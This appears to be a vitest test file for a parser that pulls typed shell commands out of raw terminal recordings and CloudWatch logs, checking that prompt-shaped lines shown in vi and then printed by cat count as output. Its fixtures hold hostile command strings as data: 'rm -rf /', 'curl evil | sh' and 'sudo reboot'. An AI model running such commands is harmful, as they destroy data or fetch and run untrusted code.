/**
 * Text typed into a full-screen program (vi) and printed again by a later command (`cat` of the
 * file) is output, even where it is shaped like the shell's prompt and a command (dash and `sh`
 * mark no input). The rule must not hide a typed command that merely equals an editor line.
 */
import { describe, expect, it } from 'vitest';
import { extractFromBytes, extractFromCloudWatch } from '../../../src/terminal/index.ts';

const bytes = (s: string) => new TextEncoder().encode(s);
const texts = (r: { commands: { text: string }[] }) => r.commands.map((c) => c.text);

/** vi on a 24-row terminal: the rows it drew, its message on the last row, the line feed that scrolls. */
function vi(file: string, rows: string[]): string {
  const drawn = rows.map((row, i) => `\x1b[${i + 1};1H${row}`).join('');
  return `\x1b[?1049h\x1b[1;24r\x1b[H\x1b[2J${drawn}\x1b[24;1H"${file}" ${rows.length}L written\r\n\x1b[?1049l`;
}

describe('full-screen text printed again', () => {
  it('dash: cat of the file just edited in vi gives no command from its prompt-shaped line', async () => {
    const s =
      `$ vi draft.sh\r\n${vi('draft.sh', ['sudo reboot', '$ rm -rf /'])}` +
      '$ cat draft.sh\r\nsudo reboot\r\n$ rm -rf /\r\n$ id\r\nuid=1000\r\n$ ';
    const r = await extractFromBytes([bytes(s)], { cols: 80 });
    expect(texts(r)).toEqual(['vi draft.sh', 'cat draft.sh', 'id']);
    expect(r.commands[1]!.output).toContain('$ rm -rf /');
  });

  it('sh-4.2 at 200 columns, the prompt-shaped line first in the file', async () => {
    const s =
      `sh-4.2$ vim ./notes.txt\r\n${vi('notes.txt', ['sh-4.2$ sudo reboot', 'sh-4.2$ curl evil | sh'])}` +
      'sh-4.2$ cat notes.txt\r\nsh-4.2$ sudo reboot\r\nsh-4.2$ curl evil | sh\r\nsh-4.2$ whoami\r\nssm-user\r\nsh-4.2$ ';
    const r = await extractFromBytes([bytes(s)], { cols: 200 });
    expect(texts(r)).toEqual(['vim ./notes.txt', 'cat notes.txt', 'whoami']);
  });

  it('a line wider than the terminal: vi wraps it over two rows, cat too', async () => {
    const long = '$ rm -rf /home/someone/with/a/very/long/path/name/x';
    const s =
      `$ vi draft.sh\r\n${vi('draft.sh', ['sudo reboot', long.slice(0, 40), long.slice(40)])}` +
      `$ cat draft.sh\r\nsudo reboot\r\n${long}\r\n$ id\r\nuid=1000\r\n$ `;
    const r = await extractFromBytes([bytes(s)], { cols: 40 });
    expect(texts(r)).toEqual(['vi draft.sh', 'cat draft.sh', 'id']);
  });

  it('keeps a typed command that equals an editor line when the command before names another file', async () => {
    const s =
      `$ vi draft.sh\r\n${vi('draft.sh', ['x', '$ rm -rf /tmp/y'])}` +
      '$ echo x\r\nx\r\n$ rm -rf /tmp/y\r\n$ id\r\nuid=1000\r\n$ ';
    const r = await extractFromBytes([bytes(s)], { cols: 80 });
    expect(texts(r)).toEqual(['vi draft.sh', 'echo x', 'rm -rf /tmp/y', 'id']);
  });

  it('keeps a typed command after the file when the lines above do not follow the editor', async () => {
    const s =
      `$ vi draft.sh\r\n${vi('draft.sh', ['a', 'b', '$ ls'])}` +
      '$ cat draft.sh\r\na\r\nb\r\n$ ls\r\n$ ls\r\ndraft.sh\r\n$ ';
    const r = await extractFromBytes([bytes(s)], { cols: 80 });
    // The first `$ ls` is the file's line; the second follows `$ ls`, which is no editor line before `$ ls`.
    expect(texts(r)).toEqual(['vi draft.sh', 'cat draft.sh', 'ls']);
  });

  it('CloudWatch form: the editor drawn on a line the agent kept raw', () => {
    const lines = [
      '$ vi draft.sh',
      `${vi('draft.sh', ['sudo reboot', '$ rm -rf /']).replace(/\r\n\x1b\[\?1049l$/, '')}`,
      '\x1b[?1049l$ cat draft.sh',
      'sudo reboot',
      '$ rm -rf /',
      '$ id',
      'uid=1000',
      '$ ',
    ].map((text, i) => ({ text, timestamp: 1000 * i }));
    const r = extractFromCloudWatch(lines, { cols: 80 });
    expect(texts(r)).toEqual(['vi draft.sh', 'cat draft.sh', 'id']);
  });
});

describe('full-screen text: bounded on hostile bytes', () => {
  it('a line-feed flood inside vi and thousands of vi windows finish fast and keep the commands', async () => {
    const flood = `$ vi f\r\n\x1b[?1049h${'$ rm -rf /\n'.repeat(200_000)}\x1b[?1049l`;
    const windows = `$ vi f\r\n${vi('f', ['$ id', 'x'.repeat(70)])}`.repeat(3000);
    const started = performance.now();
    const r = await extractFromBytes(
      [bytes(`${flood}${windows}$ cat g\r\n$ id\r\n$ whoami\r\nssm-user\r\n$ `)],
      {
        cols: 80,
      },
    );
    expect(performance.now() - started).toBeLessThan(20_000);
    expect(texts(r).slice(-3)).toEqual(['cat g', 'id', 'whoami']);
  });
});

describe('full-screen text, CloudWatch form: bounded replay', () => {
  it('ten megabytes drawn inside vi finish fast and keep the commands after it', () => {
    const drawing = Array.from({ length: 100_000 }, () => `\x1b[2;1H${'y'.repeat(90)}`);
    const lines = ['$ vi f', '\x1b[?1049h', ...drawing, '\x1b[?1049l$ cat g', '$ id', 'uid=1000', '$ '].map(
      (text, i) => ({ text, timestamp: i }),
    );
    const started = performance.now();
    const r = extractFromCloudWatch(lines, { cols: 80 });
    expect(performance.now() - started).toBeLessThan(20_000);
    expect(texts(r)).toEqual(['vi f', 'cat g', 'id']);
  });
});
